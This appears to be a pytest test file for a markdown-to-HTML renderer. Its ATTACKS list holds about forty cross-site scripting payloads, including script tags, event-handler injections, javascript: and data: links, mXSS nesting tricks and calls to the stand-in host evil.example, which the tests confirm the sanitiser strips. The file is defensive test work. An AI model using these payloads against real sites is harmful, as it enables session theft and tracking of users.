"""Markdown to HTML: what comes through, what is lowered, and what never gets onto a page."""

from html.parser import HTMLParser

import pytest

from partnerships.markdown import render
from partnerships.templatetags.markdown import markdown

ALLOWED_TAGS = {
    *("p", "br", "hr", "em", "strong", "del", "code", "pre", "blockquote", "ul", "ol", "li", "a"),
    *("h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}
ALLOWED_ATTRIBUTES = {("a", "href"), ("a", "title"), ("a", "rel"), ("ol", "start")}


class Elements(HTMLParser):
    """Collects the elements that a browser would make."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.addresses: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _value in attrs}
        self.addresses += [value or "" for name, value in attrs if name in ("href", "src", "action", "xlink:href")]


def test_paragraphs_emphasis_and_lists() -> None:
    html = render("One *two* **three**.\n\n- four\n- five\n")

    assert html == "<p>One <em>two</em> <strong>three</strong>.</p>\n<ul>\n<li>four</li>\n<li>five</li>\n</ul>\n"


@pytest.mark.parametrize(
    ("written", "tag"),
    [("# A", "h3"), ("## A", "h4"), ("### A", "h5"), ("#### A", "h6"), ("##### A", "h6"), ("A\n=", "h3")],
)
def test_headings_start_below_those_of_the_page(written: str, tag: str) -> None:
    assert render(written) == f"<{tag}>A</{tag}>\n"


def test_tables_come_through() -> None:
    html = render("| a | b |\n|---|---|\n| 1 | 2 |\n")

    assert "<th>a</th>" in html
    assert "<td>2</td>" in html


@pytest.mark.parametrize("address", ["https://example.org/a?b=1", "http://example.org", "mailto:a@example.org"])
def test_a_link_to_the_web_or_to_an_address_is_kept_and_marked(address: str) -> None:
    html = render(f"[text]({address})")

    assert html == f'<p><a href="{address}" rel="nofollow noopener">text</a></p>\n'


@pytest.mark.parametrize("written", ["", "   \n", None])
def test_nothing_gives_nothing(written: str | None) -> None:
    assert markdown(written) == ""


def test_the_filter_gives_text_that_templates_do_not_escape_again() -> None:
    assert markdown("*a*").__html__() == "<p><em>a</em></p>\n"


def test_plain_text_with_signs_of_markup_stays_readable() -> None:
    assert render("a < b & c") == "<p>a &lt; b &amp; c</p>\n"


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '"><img src=x onerror=alert(1)>',
    "' onfocus=alert(1) autofocus='",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( java\nscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#106;&#97;vascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://example.org "a\\" onmouseover=alert(1) b")',
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=a><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<b><i><a href='javascript:alert(1)'>unclosed",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "![x](https://evil.example/beacon.png)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![a][b]\n\n[b]: https://evil.example/beacon.png",
    "[![x](https://evil.example/beacon.png)](javascript:alert(1))",
    "</script><script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <img src=x onerror=alert(1)> | b |",
    "# <img src=x onerror=alert(1)>",
    "\x00<script>alert(1)</script>",
]


@pytest.mark.parametrize("written", ATTACKS)
def test_nothing_active_comes_out(written: str) -> None:
    elements = Elements(render(written))

    assert elements.tags <= ALLOWED_TAGS
    assert elements.attributes <= ALLOWED_ATTRIBUTES
    assert all(address.startswith(("http://", "https://", "mailto:")) for address in elements.addresses)


def test_pictures_vanish_so_that_no_other_host_learns_of_a_reader() -> None:
    assert render("before ![alt](https://evil.example/a.png) after") == "<p>before  after</p>\n"


def test_a_link_without_a_good_address_keeps_its_text() -> None:
    assert "x</a>" in render("[x](//evil.example)")
    assert "evil" not in render("[x](//evil.example)")
